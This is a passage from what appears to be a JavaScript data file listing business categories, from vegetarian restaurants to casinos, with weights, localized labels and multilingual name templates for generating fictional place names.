    t: "Vegetarian restaurant", w: 0.6, h: "food", a: "food", q: "vegetarian restaurants", labels: ["Vegetarian restaurant", "Vegan restaurant"],
    n: {
      en: ["{P} Vegan Kitchen", "Green {P}", "The {A} Plant Kitchen", "{F}'s Veggie Bar"],
      de: ["{P} vegetarisch", "Veganes Café {P}", "Grünes {P}"],
    },
  },
  {
    t: "Brewery", w: 0.5, h: "night", a: "night", q: "breweries", labels: ["Brewery", "Brewpub"],
    loc: { de: ["Brauerei", "Brauhaus"] },
    n: {
      en: ["{C} Brewing Co.", "{P} Brewery", "{S} Brewing", "{A} Ales"],
      de: ["Brauerei {S}", "Brauhaus {P}", "Brauhaus {C}"],
      nl: ["Brouwerij {P}", "Brouwerij 't {P}"],
      cs: ["Pivovar {P}", "Minipivovar {S}"],
      pl: ["Browar {P}", "Browar {S}"],
    },
  },
  {
    t: "Winery", w: 0.5, h: "leisure", a: "leisure", q: "wineries", labels: ["Winery", "Vineyard"],
    loc: { it: ["Cantina", "Azienda vinicola"], fr: ["Domaine viticole"], es: ["Bodega"], de: ["Weingut"], pt: ["Quinta"] },
    n: {
      en: ["{P} Winery", "{S} Family Vineyards", "{P} Estate Wines", "{P} Wine Estate"],
      it: ["Cantina {S}", "Tenuta {P}", "Azienda Vinicola {S}"],
      fr: ["Domaine {S}", "Château {S}", "Domaine {P}"],
      es: ["Bodegas {S}", "Bodega {P}"],
      pt: ["Quinta {P}", "Quinta do {S}"],
      de: ["Weingut {S}", "Weingut {P}"],
      el: ["{P} Winery", "Ktima {S}"],
    },
  },
  {
    t: "Deli", w: 0.5, h: "shop", a: "shop", q: "delis", labels: ["Deli", "Gourmet grocery store"],
    loc: { it: ["Salumeria", "Gastronomia"], de: ["Feinkostladen"] },
    n: {
      en: ["{S}'s Deli", "{P} Delicatessen", "{C} Deli"],
      it: ["Salumeria {S}", "Gastronomia {P}"],
      de: ["Feinkost {S}", "Delikatessen {P}"],
      es: ["Charcutería {S}", "Ultramarinos {P}"],
      fr: ["Épicerie fine {P}", "Traiteur {S}"],
    },
  },
  {
    t: "Butcher shop", w: 0.5, h: "shop", a: "shop", q: "butchers", labels: ["Butcher shop"],
    loc: { de: ["Metzgerei", "Fleischerei"], fr: ["Boucherie"], it: ["Macelleria"], es: ["Carnicería"], tr: ["Kasap"] },
    n: {
      en: ["{S} Butchers", "{P} Meats", "{S} & Son Butchers"],
      de: ["Metzgerei {S}", "Fleischerei {S}"],
      fr: ["Boucherie {S}", "Boucherie {P}"],
      it: ["Macelleria {S}"],
      es: ["Carnicería {S}"],
      tr: ["{S} Kasap", "{P} Et Ürünleri"],
      pt: ["Talho {S}", "Açougue {P}"],
      nl: ["Slagerij {S}"],
    },
  },
  {
    t: "Supermarket", w: 1.5, h: "shop", a: "shop", q: "supermarkets", labels: ["Supermarket", "Grocery store", "Convenience store"],
    loc: { de: ["Supermarkt"], fr: ["Supermarché", "Épicerie"], it: ["Supermercato", "Alimentari"], es: ["Supermercado"], tr: ["Süpermarket", "Bakkal"], pt: ["Supermercado"] },
    n: {
      en: ["{P} Market", "{S}'s Market", "{C} Fresh Market", "{P} Grocery"],
      de: ["{P} Markt", "Supermarkt {S}", "Dorfladen {C}"],
      fr: ["Supérette {P}", "Marché {P}", "Épicerie {S}"],
      it: ["Supermercato {P}", "Alimentari {S}", "Market {P}"],
      es: ["Supermercado {P}", "Supermercados {S}", "Ultramarinos {S}"],
      tr: ["{P} Market", "{S} Süpermarket", "{P} Bakkal"],
      pt: ["Supermercado {P}", "Mercearia {S}"],
      nl: ["Supermarkt {P}"],
      pl: ["Sklep Spożywczy {P}", "Delikatesy {P}"],
    },
  },
  {
    t: "Clothing store", w: 1.5, h: "shop", a: "shop", q: "clothing stores", labels: ["Clothing store", "Boutique", "Women's clothing store"],
    loc: { de: ["Bekleidungsgeschäft", "Modegeschäft"], fr: ["Magasin de vêtements"], es: ["Tienda de ropa"], it: ["Negozio di abbigliamento"], tr: ["Giyim mağazası"] },
    n: {
      en: ["{F} Boutique", "{P} Apparel", "{S} & {S2}", "{A} Clothing Co."],
      de: ["Modehaus {S}", "Boutique {F}"],
      fr: ["Boutique {F}", "Maison {S}"],
      it: ["Boutique {F}", "Abbigliamento {S}"],
      es: ["Boutique {F}", "Moda {P}"],
      tr: ["{P} Butik", "{S} Giyim"],
    },
  },
  {
    t: "Souvenir store", w: 1, h: "shop", a: "shop", q: "souvenir shops", labels: ["Souvenir store", "Gift shop"],
    loc: { de: ["Souvenirladen"], es: ["Tienda de souvenirs"], tr: ["Hediyelik eşya mağazası"] },
    n: {
      en: ["{C} Souvenirs", "{P} Gift Shop", "{C} Memories", "Souvenirs {P}"],
      tr: ["{P} Hediyelik Eşya", "{P} Seramik"],
      es: ["Recuerdos {P}", "Souvenirs {C}"],
      it: ["Souvenir {P}", "Ricordi di {C}"],
      el: ["{P} Souvenirs", "{P} Gifts"],
    },
  },
  {
    t: "Book store", w: 0.6, h: "shop", a: "shop", q: "bookstores", labels: ["Book store", "Used book store"],
    loc: { de: ["Buchhandlung"], fr: ["Librairie"], it: ["Libreria"], es: ["Librería"], tr: ["Kitapçı"] },
    n: {
      en: ["{S} Books", "{P} Bookshop", "The {A} Bookstore"],
      de: ["Buchhandlung {S}", "Bücherstube {P}"],
      fr: ["Librairie {P}", "Librairie {S}"],
      it: ["Libreria {P}", "Libreria {S}"],
      es: ["Librería {P}", "Librería {S}"],
      tr: ["{P} Kitabevi"],
      pt: ["Livraria {P}"],
      nl: ["Boekhandel {S}"],
      pl: ["Księgarnia {P}"],
    },
  },
  {
    t: "Florist", w: 0.5, h: "shop", a: "shop", q: "florists", labels: ["Florist"],
    loc: { de: ["Blumengeschäft"], fr: ["Fleuriste"], it: ["Fioraio"], es: ["Floristería"], tr: ["Çiçekçi"] },
    n: {
      en: ["{F}'s Flowers", "{P} Florist", "{A} Flower Co."],
      de: ["Blumen {S}", "Blumenhaus {P}"],
      fr: ["{F} Fleurs", "Fleuriste {P}"],
      it: ["Fiori {F}", "Fioreria {P}"],
      es: ["Floristería {F}", "Flores {P}"],
      tr: ["{P} Çiçekçilik"],
      nl: ["Bloemen {S}"],
    },
  },
  {
    t: "Jewelry store", w: 0.6, h: "shop", a: "shop", q: "jewelry stores", labels: ["Jewelry store", "Watch store"],
    loc: { de: ["Juwelier"], fr: ["Bijouterie"], it: ["Gioielleria"], es: ["Joyería"], tr: ["Kuyumcu"] },
    n: {
      en: ["{S} Jewelers", "{P} Jewellery", "{S} & Sons Jewelers"],
      de: ["Juwelier {S}", "Goldschmiede {S}"],
      fr: ["Bijouterie {S}", "Joaillerie {P}"],
      it: ["Gioielleria {S}"],
      es: ["Joyería {S}"],
      tr: ["{S} Kuyumculuk", "{P} Kuyumcu"],
    },
  },
  {
    t: "Shopping mall", w: 0.5, h: "shop", a: "shop", q: "shopping malls", labels: ["Shopping mall"],
    loc: { de: ["Einkaufszentrum"], es: ["Centro comercial"], tr: ["Alışveriş merkezi"], fr: ["Centre commercial"], it: ["Centro commerciale"] },
    n: {
      en: ["{C} Mall", "{P} Shopping Centre", "{P} Plaza", "{C} Galleria"],
      de: ["Einkaufszentrum {P}", "{P} Center", "{C} Arcaden"],
      es: ["Centro Comercial {P}"],
      it: ["Centro Commerciale {P}"],
      fr: ["Centre Commercial {P}"],
      tr: ["{P} AVM", "{P} Alışveriş Merkezi"],
      pt: ["Shopping {P}", "Centro Comercial {P}"],
    },
  },
  {
    t: "Electronics store", w: 0.5, h: "shop", a: "shop", q: "electronics stores", labels: ["Electronics store", "Cell phone store"],
    n: { en: ["{P} Electronics", "{C} Tech", "{S} Electronics", "{P} Mobile"], de: ["{P} Elektronik", "Elektro {S}"], tr: ["{P} Elektronik", "{P} İletişim"] },
  },
  {
    t: "Hardware store", w: 0.4, h: "shop", a: "shop", q: "hardware stores", labels: ["Hardware store"],
    loc: { de: ["Baumarkt", "Eisenwarenhandlung"], es: ["Ferretería"] },
    n: {
      en: ["{S} Hardware", "{P} Hardware & Supply", "{C} Builders Supply"],
      de: ["Eisenwaren {S}", "{P} Baumarkt"],
      es: ["Ferretería {S}", "Ferretería {P}"],
      it: ["Ferramenta {S}"],
      fr: ["Quincaillerie {S}"],
      tr: ["{S} Hırdavat"],
      pt: ["Ferragens {P}"],
    },
  },
  {
    t: "Optician", w: 0.4, h: "shop", a: "shop", q: "opticians", labels: ["Optician"],
    loc: { de: ["Optiker"], fr: ["Opticien"], it: ["Ottica"], es: ["Óptica"], tr: ["Optik"] },
    n: {
      en: ["{P} Optical", "{S} Opticians", "{C} Eyecare"],
      de: ["Optik {S}", "{S} Augenoptik"],
      fr: ["Optique {P}", "{S} Opticien"],
      it: ["Ottica {S}"],
      es: ["Óptica {S}", "Óptica {P}"],
      tr: ["{P} Optik"],
      pt: ["Óptica {P}"],
      nl: ["Opticien {S}"],
    },
  },
  {
    t: "Wine store", w: 0.4, h: "shop", a: "shop", q: "wine shops", labels: ["Wine store", "Liquor store"],
    loc: { fr: ["Caviste"], it: ["Enoteca"], es: ["Vinoteca"] },
    n: {
      en: ["{P} Wine Shop", "{S} Wines", "The {A} Wine Cellar"],
      fr: ["Cave {P}", "La Cave de {F}"],
      it: ["Enoteca {P}", "Enoteca {S}"],
      es: ["Vinoteca {P}", "Bodega {S}"],
      de: ["Weinhandlung {S}"],
      pt: ["Garrafeira {P}"],
    },
  },
  {
    t: "Pharmacy", w: 1.5, h: "pharmacy", a: "shop", q: "pharmacies", labels: ["Pharmacy", "Drug store"],
    loc: { de: ["Apotheke"], fr: ["Pharmacie"], it: ["Farmacia"], es: ["Farmacia"], pt: ["Farmácia"], tr: ["Eczane"], nl: ["Apotheek"], pl: ["Apteka"] },
    n: {
      en: ["{P} Pharmacy", "{S} Pharmacy", "{C} Chemist"],
      de: ["{Stadt|Markt|Bahnhof|Löwen|Rats|Adler|Linden|Sonnen|Park|Hof|Schloss|Rosen}-Apotheke", "Apotheke am {Markt|Rathaus|Bahnhof|Dom|Park}"],
      fr: ["Pharmacie {P}", "Pharmacie {S}", "Grande Pharmacie {P}", "Pharmacie du {Centre|Marché|Port|Soleil|Parc}"],
      it: ["Farmacia {P}", "Farmacia {S}", "Farmacia {San Marco|Centrale|Comunale|del Corso|Internazionale}"],
      es: ["Farmacia {S}", "Farmacia {P}", "Farmacia Lda. {F} {S}"],
      pt: ["Farmácia {P}", "Farmácia {S}"],
      tr: ["{P} Eczanesi", "{S} Eczanesi", "Eczane {P}"],
      nl: ["Apotheek {P}", "Apotheek {C}"],
      pl: ["Apteka {P}", "Apteka {Pod Orłem|Centrum|Rodzinna|Słoneczna}"],
    },
  },
  {
    t: "Dentist", w: 1.2, h: "office", a: "pro", q: "dentists", labels: ["Dentist", "Dental clinic", "Cosmetic dentist"],
    loc: { de: ["Zahnarzt"], fr: ["Dentiste"], it: ["Dentista"], es: ["Dentista", "Clínica dental"], tr: ["Diş hekimi", "Diş kliniği"], pl: ["Dentysta"] },
    n: {
      en: ["{P} Dental", "{C} Dental Care", "Dr. {S} Dental", "{S} Family Dentistry", "Smile {P} Dental Clinic"],
      de: ["Zahnarztpraxis Dr. {S}", "Zahnarzt Dr. med. dent. {F} {S}", "Zahnzentrum {C}"],
      fr: ["Cabinet dentaire {P}", "Dr {F} {S}, chirurgien-dentiste", "Centre dentaire {C}"],
      it: ["Studio Dentistico {S}", "Studio Dentistico Dr. {S}", "Centro Odontoiatrico {P}"],
      es: ["Clínica Dental {S}", "Clínica Dental {P}", "Dentista {F} {S}"],
      pt: ["Clínica Dentária {P}", "Consultório Dr. {S}"],
      tr: ["Dt. {F} {S} Diş Kliniği", "{P} Ağız ve Diş Sağlığı Polikliniği", "{P} Dental Clinic"],
      pl: ["Gabinet Stomatologiczny {S}", "Stomatologia {P}"],
      nl: ["Tandartspraktijk {P}", "Tandarts {S}"],
    },
  },
  {
    t: "Medical clinic", w: 0.8, h: "office", a: "pro", q: "clinics", labels: ["Medical clinic", "Doctor", "General practitioner"],
    loc: { de: ["Arztpraxis", "Allgemeinarzt"], es: ["Clínica"], tr: ["Klinik", "Poliklinik"], it: ["Poliambulatorio"] },
    n: {
      en: ["{P} Medical Center", "{C} Family Clinic", "{S} Medical Group"],
      de: ["Praxis Dr. {S}", "Arztpraxis Dr. med. {F} {S}", "MVZ {C}"],
      fr: ["Cabinet médical {P}", "Centre médical {C}"],
      it: ["Poliambulatorio {P}", "Studio Medico {S}"],
      es: ["Clínica {P}", "Centro Médico {C}"],
      tr: ["Özel {P} Polikliniği", "{P} Tıp Merkezi"],
    },
  },
  {
    t: "Hospital", w: 0.3, h: "h24", a: "pro", q: "hospitals", labels: ["Hospital", "Private hospital"],
    loc: { de: ["Krankenhaus"], fr: ["Hôpital"], es: ["Hospital"], it: ["Ospedale"], tr: ["Hastane"] },
    n: {
      en: ["{C} General Hospital", "{P} Medical Center", "St. {F}'s Hospital", "{P} Hospital"],
      de: ["Klinikum {C}", "Krankenhaus {P}", "{St. Marien|St. Josef|St. Elisabeth|Evangelisches|Städtisches} Krankenhaus {C}"],
      fr: ["Hôpital {P}", "Centre Hospitalier de {C}", "Clinique {P}"],
      it: ["Ospedale {P}", "Ospedale Civile di {C}", "Policlinico {P}"],
      es: ["Hospital {P}", "Hospital Universitario de {C}", "Clínica {P}"],
      pt: ["Hospital {P}", "Hospital de {C}"],
      tr: ["Özel {P} Hastanesi", "{C} Devlet Hastanesi", "{P} Hospital"],
      nl: ["Ziekenhuis {P}"],
      pl: ["Szpital {P}"],
    },
  },
  {
    t: "Veterinarian", w: 0.5, h: "office", a: "pro", q: "veterinarians", labels: ["Veterinarian", "Animal hospital"],
    loc: { de: ["Tierarzt"], fr: ["Vétérinaire"], es: ["Veterinario"], tr: ["Veteriner"] },
    n: {
      en: ["{P} Animal Hospital", "{C} Veterinary Clinic", "{S} Vets", "{P} Pet Clinic"],
      de: ["Tierarztpraxis Dr. {S}", "Tierklinik {P}"],
      fr: ["Clinique vétérinaire {P}", "Cabinet vétérinaire {S}"],
      it: ["Clinica Veterinaria {P}", "Ambulatorio Veterinario {S}"],
      es: ["Clínica Veterinaria {P}", "Veterinario {S}"],
      tr: ["{P} Veteriner Kliniği"],
      pt: ["Clínica Veterinária {P}"],
      nl: ["Dierenkliniek {P}"],
    },
  },
  {
    t: "Spa", w: 2, h: "beauty", a: "beauty", q: "spas", labels: ["Spa", "Day spa", "Wellness center"],
    loc: { de: ["Wellnesscenter", "Therme"], tr: ["Hamam", "Türk hamamı"], hu: ["Gyógyfürdő"], it: ["Terme"], es: ["Spa", "Balneario"] },
    n: {
      en: ["{P} Spa", "{P} Day Spa", "{A} Wellness", "{C} Spa & Wellness", "{P} Thermal Spa"],
      de: ["{P} Wellness", "Therme {C}", "{P} Spa & Wellness"],
      tr: ["{P} Hamamı", "Tarihi {P} Hamamı", "{P} Spa"],
      th: ["{P} Spa", "{P} Thai Massage & Spa"],
      id: ["{P} Spa", "{P} Balinese Spa"],
      es: ["Spa {P}", "Balneario {P}"],
      it: ["Terme {P}", "Spa {P}"],
      hu: ["{P} Gyógyfürdő", "{P} Thermal Bath"],
    },
  },
  {
    t: "Massage therapist", w: 0.6, h: "beauty", a: "beauty", q: "massage", labels: ["Massage therapist", "Thai massage therapist"],
    n: { en: ["{P} Massage", "{F}'s Massage", "{C} Thai Massage", "{P} Wellness Massage"], th: ["{P} Thai Massage", "{F} Massage", "Let's Relax {P}"] },
  },
  {
    t: "Hair salon", w: 1.5, h: "beauty", a: "beauty", q: "hair salons", labels: ["Hair salon", "Hairdresser"],
    loc: { de: ["Friseursalon", "Friseur"], fr: ["Salon de coiffure"], it: ["Parrucchiere"], es: ["Peluquería"], tr: ["Kuaför"] },
    n: {
      en: ["{F}'s Hair Studio", "{P} Hair", "Salon {F}", "{A} Hair Salon", "Hair by {F}"],
      de: ["Friseur {S}", "Friseursalon {F}", "Haarstudio {P}"],
      fr: ["Coiffure {F}", "Salon {F} Coiffure", "{F} Coiffeur"],
      it: ["Parrucchiere {F}", "Acconciature {F}", "Hair Studio {F}"],
      es: ["Peluquería {F}", "Peluquería {P}"],
      tr: ["Kuaför {F}", "{F} Kuaför", "{P} Hair Studio"],
      pt: ["Cabeleireiro {F}", "Salão {F}"],
    },
  },
  {
    t: "Barber shop", w: 0.8, h: "beauty", a: "beauty", q: "barber shops", labels: ["Barber shop"],
    loc: { tr: ["Berber"], es: ["Barbería"], de: ["Barbier"] },
    n: {
      en: ["{F}'s Barbershop", "{P} Barbers", "The {A} Barber", "{C} Barber Co."],
      tr: ["Berber {F}", "{F} Erkek Kuaförü"],
      es: ["Barbería {F}", "Barbería {P}"],
      de: ["Barbier {F}", "{F}'s Barbershop"],
      it: ["Barbiere {F}", "Barber Shop {F}"],
    },
  },
  {
    t: "Beauty salon", w: 0.8, h: "beauty", a: "beauty", q: "beauty salons", labels: ["Beauty salon", "Skin care clinic"],
    loc: { de: ["Kosmetikstudio"], fr: ["Institut de beauté"], es: ["Centro de estética"], tr: ["Güzellik salonu"] },
    n: {
      en: ["{P} Beauty", "{F}'s Beauty Salon", "{A} Beauty Lounge"],
      de: ["Kosmetikstudio {F}", "Beauty Lounge {P}"],
      fr: ["Institut {P}", "Institut de beauté {F}"],
      es: ["Centro de Estética {F}", "Estética {P}"],
      tr: ["{F} Güzellik Salonu", "{P} Beauty Center"],
    },
  },
  {
    t: "Nail salon", w: 0.5, h: "beauty", a: "beauty", q: "nail salons", labels: ["Nail salon"],
    n: { en: ["{P} Nails", "{F} Nail Studio", "Nails by {F}", "{A} Nail Bar"] },
  },
  {
    t: "Gym", w: 1.5, h: "fitness", a: "fitness", q: "gyms", labels: ["Gym", "Fitness center"],
    loc: { de: ["Fitnessstudio"], fr: ["Salle de sport"], it: ["Palestra"], es: ["Gimnasio"], tr: ["Spor salonu"], pl: ["Siłownia"] },
    n: {
      en: ["{P} Fitness", "{A} Gym", "{C} Fitness Club", "{S}'s Gym", "{Iron|Pulse|Core|Peak|Titan|Flex|Urban} {Fitness|Gym|Athletics|Club}"],
      de: ["Fitnessstudio {P}", "{P} Fitness", "{Iron|Pulse|Core|Peak} Fitness {C}"],
      es: ["Gimnasio {P}", "{P} Fitness"],
      it: ["Palestra {P}", "{P} Fitness Club"],
      tr: ["{P} Spor Salonu", "{P} Fitness"],
    },
  },
  {
    t: "Yoga studio", w: 0.6, h: "fitness", a: "fitness", q: "yoga studios", labels: ["Yoga studio", "Pilates studio"],
    n: { en: ["{P} Yoga", "Yoga {P}", "{C} Yoga Studio", "{Lotus|Shanti|Prana|Sattva|Bodhi|Om} Yoga"] },
  },
  {
    t: "Car rental agency", w: 1.5, h: "transport", a: "service", q: "car rental", labels: ["Car rental agency"],
    loc: { es: ["Alquiler de coches"], de: ["Autovermietung"], fr: ["Agence de location de voitures"], it: ["Autonoleggio"], tr: ["Araç kiralama"], PT: ["Aluguer de automóveis"], BR: ["Locadora de veículos"] },
    n: {
      en: ["{C} Car Rental", "{P} Rent a Car", "{A} Car Hire", "{Easy|Go|Star|Blue|Sun|Prime|Euro}{Car|Rent|Drive|Wheels} {C} Airport", "{S} Car Rentals"],
      es: ["Alquiler de Coches {P}", "{P} Rent a Car"],
      tr: ["{P} Rent A Car", "{S} Oto Kiralama", "{P} Araç Kiralama"],
      de: ["Autovermietung {S}", "{P} Autovermietung"],
      it: ["Autonoleggio {P}", "{P} Rent"],
      fr: ["Location {P}", "{P} Location de voitures"],
      el: ["{P} Car Rental", "{F} Rent a Car"],
      pt: ["{P} Rent-a-Car", "Locadora {P}"],
    },
  },
  {
    t: "Travel agency", w: 1.5, h: "office", a: "service", q: "travel agencies", labels: ["Travel agency"],
    loc: { de: ["Reisebüro"], fr: ["Agence de voyages"], it: ["Agenzia di viaggi"], es: ["Agencia de viajes"], tr: ["Seyahat acentası"], pl: ["Biuro podróży"] },
    n: {
      en: ["{P} Travel", "{C} Travel Centre", "{S} Travel", "{A} Journeys", "{P} Holidays"],
      de: ["Reisebüro {S}", "{P} Reisen", "Reisebüro {C}"],
      fr: ["Agence de voyages {P}", "{P} Voyages"],
      it: ["Agenzia Viaggi {P}", "{P} Viaggi"],
      es: ["Viajes {P}", "Agencia de Viajes {P}"],
      pt: ["{P} Viagens", "Agência {P} Turismo"],
      tr: ["{P} Turizm", "{P} Seyahat Acentası", "{S} Turizm"],
      nl: ["Reisbureau {P}"],
      pl: ["Biuro Podróży {P}"],
    },
  },
  {
    t: "Tour operator", w: 1.5, h: "tour", a: "service", q: "tours", labels: ["Tour operator", "Tour agency", "Sightseeing tour agency"],
    loc: { es: ["Operador turístico"], de: ["Reiseveranstalter"], tr: ["Tur şirketi"] },
    n: {
      en: ["{C} Tours", "{C} Walking Tours", "{P} Adventures", "{A} Expeditions", "{C} City Tours", "{F}'s Tours", "Discover {C}", "{C} Food Tours", "{C} by Bike"],
      tr: ["{P} Tur", "{C} Jeep Safari", "{P} Balloons", "{P} Travel & Tours"],
      es: ["Tours {C}", "{P} Excursiones", "Free Tour {C}"],
      it: ["{C} Tour", "{P} Escursioni"],
      el: ["{C} Sailing", "{P} Cruises", "{P} Tours"],
    },
  },
  {
    t: "Taxi service", w: 0.6, h: "transport", a: "service", q: "taxis", labels: ["Taxi service", "Airport shuttle service"],
    loc: { de: ["Taxiunternehmen"], es: ["Servicio de taxis"], tr: ["Taksi durağı"] },
    n: {
      en: ["{C} Taxi", "{P} Cabs", "{A} Taxi Service", "Taxi {C}", "{C} Airport Taxi"],
      tr: ["{P} Taksi", "{P} Taksi Durağı"],
      de: ["Taxi {S}", "Taxi-Zentrale {C}"],
      es: ["Radio Taxi {C}", "Taxi {P}"],
      it: ["Radio Taxi {C}", "Taxi {P}"],
    },
  },
  {
    t: "Bicycle rental service", w: 0.4, h: "transport", a: "service", q: "bike rental", labels: ["Bicycle rental service"],
    loc: { de: ["Fahrradverleih"], nl: ["Fietsverhuur"] },
    n: { en: ["{C} Bike Rental", "{P} Cycles", "{A} Bikes"], de: ["Fahrradverleih {P}", "Radverleih {S}"], nl: ["Fietsverhuur {P}", "{P} Fietsen"] },
  },
  {
    t: "Boat tour agency", w: 0.5, h: "tour", a: "service", q: "boat tours", labels: ["Boat tour agency", "Boat rental service"],
    loc: { tr: ["Tekne turu"] },
    n: {
      en: ["{C} Boat Tours", "{P} Cruises", "{A} Sailing", "{F}'s Boat Trips"],
      tr: ["{P} Tekne Turları", "{F} Kaptan Tekne Turu"],
      el: ["{P} Sailing", "{F}'s Boat Trips"],
      it: ["{P} Boat Tours", "Escursioni in Barca {P}"],
      es: ["Excursiones en Barco {P}", "{P} Charter"],
    },
  },
  {
    t: "Scuba diving center", w: 0.3, h: "tour", a: "leisure", q: "diving", labels: ["Scuba diving center", "Diving center"],
    n: { en: ["{P} Dive Center", "{A} Divers", "{C} Scuba", "{P} Diving"] },
  },
  {
    t: "Gas station", w: 0.6, h: "transport", a: "shop", q: "gas stations", labels: ["Gas station"],
    loc: { de: ["Tankstelle"], fr: ["Station-service"], es: ["Gasolinera"], it: ["Distributore di benzina"], tr: ["Benzin istasyonu"] },
    n: {
      en: ["{P} Gas Station", "{C} Service Station", "{Apex|Nova|Delta|Polar|Summit|Velox} Fuel {C}"],
      de: ["Tankstelle {S}", "{Apex|Nova|Delta} Tankstelle {C}"],
      tr: ["{P} Petrol", "{P} Akaryakıt"],
      es: ["Gasolinera {P}", "Estación de Servicio {P}"],
      it: ["Distributore {P}", "Stazione di Servizio {P}"],
      fr: ["Station-service {P}", "Relais {P}"],
    },
  },
  {
    t: "Parking garage", w: 0.3, h: "h24", a: "service", q: "parking", labels: ["Parking garage", "Parking lot"],
    loc: { de: ["Parkhaus", "Tiefgarage"] },
    n: {
      en: ["{C} Central Parking", "{P} Parking Garage", "Parking {P}"],
      de: ["Parkhaus {P}", "Tiefgarage {P}"],
      fr: ["Parking {P}"],
      es: ["Parking {P}", "Aparcamiento {P}"],
      it: ["Parcheggio {P}", "Garage {P}"],
      nl: ["Parkeergarage {P}"],
      tr: ["{P} Otopark"],
    },
  },
  {
    t: "Museum", w: 1.5, h: "culture", a: "culture", q: "museums", labels: ["Museum", "History museum", "Art museum"],
    loc: { de: ["Museum"], fr: ["Musée"], it: ["Museo"], es: ["Museo"], tr: ["Müze"], pt: ["Museu"], pl: ["Muzeum"] },
    n: {
      en: ["{C} Museum", "Museum of {Modern Art|Natural History|Fine Arts|Archaeology|Science|Design|Photography|Maritime History|Local History|Toys|Illusions|Chocolate}", "{C} {History|Art|City|Maritime|Transport|Railway} Museum", "{S} House Museum"],
      de: ["{Stadt|Heimat|Kunst|Spielzeug|Schifffahrts|Eisenbahn|Völkerkunde}museum {C}", "Museum für {Kunst und Gewerbe|Naturkunde|Moderne Kunst|Stadtgeschichte}", "{S}-Haus"],
      fr: ["Musée {des Beaux-Arts|d'Histoire|de la Marine|d'Art moderne|Archéologique|du Vin|de la Photographie} de {C}", "Musée {S}", "Musée {P}"],
      it: ["Museo {Civico|Archeologico|di Storia Naturale|del Novecento|Diocesano|della Scienza} di {C}", "Museo {S}", "Galleria {S}"],
      es: ["Museo de {Bellas Artes|Historia|Arte Contemporáneo|Ciencias Naturales|la Ciudad|Arqueología} de {C}", "Museo {S}", "Casa Museo {F} {S}"],
      pt: ["Museu de {Arte|História|Arte Sacra|Ciência} de {C}", "Museu {S}", "Casa-Museu {F} {S}"],
      tr: ["{C} {Arkeoloji|Etnografya|Deniz|Oyuncak|Resim ve Heykel|Kent} Müzesi", "{S} Müzesi"],
      nl: ["Stedelijk Museum {C}", "Museum {P}", "{Scheepvaart|Historisch|Fries}museum {C}"],
      pl: ["Muzeum {S}", "Muzeum {Narodowe|Historii|Sztuki Nowoczesnej|Miasta}"],
    },
  },
  {
    t: "Art gallery", w: 0.8, h: "culture", a: "culture", q: "art galleries", labels: ["Art gallery"],
    loc: { de: ["Kunstgalerie"], fr: ["Galerie d'art"], it: ["Galleria d'arte"], es: ["Galería de arte"] },
    n: {
      en: ["{S} Gallery", "{P} Art Gallery", "Gallery {F}", "{C} Contemporary", "{S} Fine Art"],
      de: ["Galerie {S}", "Kunstgalerie {P}"],
      fr: ["Galerie {S}", "Galerie {P}"],
      it: ["Galleria {S}", "Galleria d'Arte {P}"],
      es: ["Galería {S}", "Galería de Arte {P}"],
    },
  },
  {
    t: "Tourist attraction", w: 1.5, h: "leisure", a: "leisure", q: "attractions", labels: ["Tourist attraction", "Historical landmark", "Observation deck"],
    n: {
      en: ["{C} {Old Town|Viewpoint|Observation Deck|Cathedral|Castle|Harbour|Old Lighthouse|Clock Tower|Botanical Garden|Waterfront}", "{P} Viewpoint", "{S} Castle", "{C} Eye"],
      de: ["{P} Aussichtspunkt", "Schloss {P}", "Burg {S}", "Altstadt {C}"],
      fr: ["Château {S}", "Belvédère {P}", "Vieille Ville de {C}"],
      it: ["Castello {P}", "Belvedere {P}", "Torre {P}"],
      es: ["Mirador {P}", "Castillo de {C}", "Casco Antiguo de {C}"],
      tr: ["{C} Kalesi", "{P} Seyir Terası", "{P} Kulesi"],
    },
  },
  {
    t: "Park", w: 0.6, h: "leisure", a: "leisure", q: "parks", labels: ["Park", "Garden"],
    n: {
      en: ["{P} Park", "{S} Park", "{C} City Park", "{P} Gardens"],
      de: ["Stadtpark {C}", "Kurpark {C}", "Park {P}"],
      fr: ["Parc {P}", "Jardin {P}"],
      it: ["Parco {P}", "Giardini {P}"],
      es: ["Parque {P}", "Jardines {P}"],
      tr: ["{P} Parkı"],
      pt: ["Parque {P}", "Jardim {P}"],
      nl: ["{P} Park", "Stadspark {C}"],
      pl: ["Park {P}"],
    },
  },
  {
    t: "Movie theater", w: 0.4, h: "culture", a: "culture", q: "cinemas", labels: ["Movie theater"],
    loc: { de: ["Kino"], fr: ["Cinéma"], es: ["Cine"], it: ["Cinema"], tr: ["Sinema"] },
    n: {
      en: ["{P} Cinema", "{C} Cineplex", "The {P} Picture House"],
      de: ["Kino {P}", "{P} Lichtspiele"],
      fr: ["Cinéma {P}", "Ciné {P}"],
      it: ["Cinema {P}", "Multisala {P}"],
      es: ["Cines {P}", "Cine {P}"],
      tr: ["{P} Sinemaları"],
    },
  },
  {
    t: "Performing arts theater", w: 0.4, h: "culture", a: "culture", q: "theaters", labels: ["Performing arts theater", "Opera house", "Concert hall"],
    loc: { de: ["Theater"], fr: ["Théâtre"], it: ["Teatro"], es: ["Teatro"], tr: ["Tiyatro"] },
    n: {
      en: ["{C} Playhouse", "{P} Theatre", "The {S} Theater"],
      de: ["Theater {C}", "{P} Theater", "Stadttheater {C}"],
      fr: ["Théâtre {P}", "Théâtre de {C}"],
      it: ["Teatro {P}", "Teatro Comunale di {C}"],
      es: ["Teatro {P}", "Teatro Municipal de {C}"],
      tr: ["{C} Devlet Tiyatrosu", "{P} Sahnesi"],
    },
  },
  {
    t: "Zoo", w: 0.15, h: "leisure", a: "leisure", q: "zoos", labels: ["Zoo", "Wildlife park"],
    n: {
      en: ["{C} Zoo", "{P} Wildlife Park"],
      de: ["Tierpark {C}", "Zoo {C}"],
      fr: ["Zoo de {C}", "Parc zoologique {P}"],
      es: ["Zoo de {C}", "Bioparc {C}"],
      it: ["Zoo di {C}", "Bioparco {P}"],
      tr: ["{C} Hayvanat Bahçesi"],
    },
  },
  {
    t: "Aquarium", w: 0.15, h: "leisure", a: "leisure", q: "aquariums", labels: ["Aquarium"],
    n: { en: ["{C} Aquarium", "{P} Ocean World"], de: ["Aquarium {C}"], es: ["Acuario de {C}"], it: ["Acquario di {C}"], fr: ["Aquarium de {C}"], tr: ["{C} Akvaryum"] },
  },
  {
    t: "Casino", w: 0.2, h: "night", a: "night", q: "casinos", labels: ["Casino"],
